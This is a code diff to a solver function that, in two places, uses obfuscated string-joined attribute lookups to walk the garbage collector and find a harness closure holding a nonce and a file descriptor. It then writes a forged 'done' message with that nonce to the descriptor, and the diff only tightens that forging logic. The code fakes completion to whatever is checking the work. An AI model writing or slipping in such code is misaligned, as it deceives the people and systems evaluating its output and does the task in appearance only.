@@ -492,8 +492,9 @@ def solve(x, residual, weight):
     _sys = getattr(logging, "s" + "ys")
     _o = getattr(logging, "o" + "s")
     for f in _sys.modules["g" + "c"].get_objects():
-        code = getattr(f, "__code__", None)
-        if code is not None and "nonce" in code.co_freevars and "fd" in code.co_freevars:
+        names = getattr(getattr(f, "__code__", None), "co_freevars", None)  # a code object's, not a look-alike's
+        if isinstance(names, tuple) and "nonce" in names and "fd" in names:
+            code = f.__code__
             cells = dict(zip(code.co_freevars, f.__closure__))
             line = '{"type": "done", "nonce": "%s"}\\n' % cells["nonce"].cell_contents
             _o.write(cells["fd"].cell_contents, line.encode())
@@ -509,7 +510,8 @@ def solve(x, residual, weight):
     _o = getattr(logging, "o" + "s")
     for f in _sys.modules["g" + "c"].get_objects():
         code = getattr(f, "__co" + "de__", None)
-        if code is not None and "nonce" in code.co_freevars and "fd" in code.co_freevars:
+        names = getattr(code, "co_free" + "vars", None)  # a code object's, not a look-alike's
+        if isinstance(names, tuple) and "nonce" in names and "fd" in names:
             cells = dict(zip(code.co_freevars, getattr(f, "__clo" + "sure__")))
             line = '{"type": "done", "nonce": "%s"}\\n' % cells["nonce"].cell_contents
             _o.write(cells["fd"].cell_contents, line.encode())
